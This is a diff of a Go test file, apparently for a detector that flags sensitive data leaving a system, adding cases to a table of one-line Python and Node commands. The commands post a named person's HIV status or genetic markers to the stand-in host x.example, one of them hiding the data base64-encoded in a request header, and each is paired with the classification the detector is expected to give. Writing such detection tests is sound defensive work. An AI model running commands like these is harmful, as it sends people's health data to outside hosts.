@@ -70,6 +70,8 @@ func TestDataLeaves(t *testing.T) {
 		// In texts that code makes of an object, by their fields.
 		{"python3 -c 'import requests; requests.post(\"https://x.example/\", data=\"{\\\"patient\\\":\\\"Ida Berg\\\",\\\"diagnosis\\\":\\\"HIV\\\"}\")'", "http.host=x.example; data.class=special"},
 		// In fields of an object of which nothing is known, also through what packs them, also in a header.
+		{"python3 -c \"import requests; requests.post('https://x.example/p', json={'donor': 'Ida Berg', 'genome': {'apoe': 'e4'}})\"", "http.host=x.example; data.class=special"},
+		{"python3 -c \"import requests; requests.post('https://x.example/p', json={'donor': 'Ida Berg', 'parcel': {'height': '4'}})\"", "http.host=x.example !http.host=x.example; data.class=special"},
 		{"node -e \"const r=require('./c.json');fetch('https://x.example/v1',{method:'POST',body:JSON.stringify({n:r.claimant.fullName,d:r.hivStatus})})\"", "http.host=x.example; data.class=special"},
 		{"node -e \"const r=require('./c.json');fetch('https://x.example/v1',{headers:{'x-ctx':Buffer.from(JSON.stringify({n:r.claimant.fullName,d:r.hivStatus})).toString('base64')}})\"", "http.host=x.example; data.class=special"},
 		{"node -e \"const w=require('./w.json');fetch('https://x.example/v1',{method:'POST',body:JSON.stringify({n:w.city.name,d:w.today.condition})})\"", "http.host=x.example !http.host=x.example; data.class=special"},
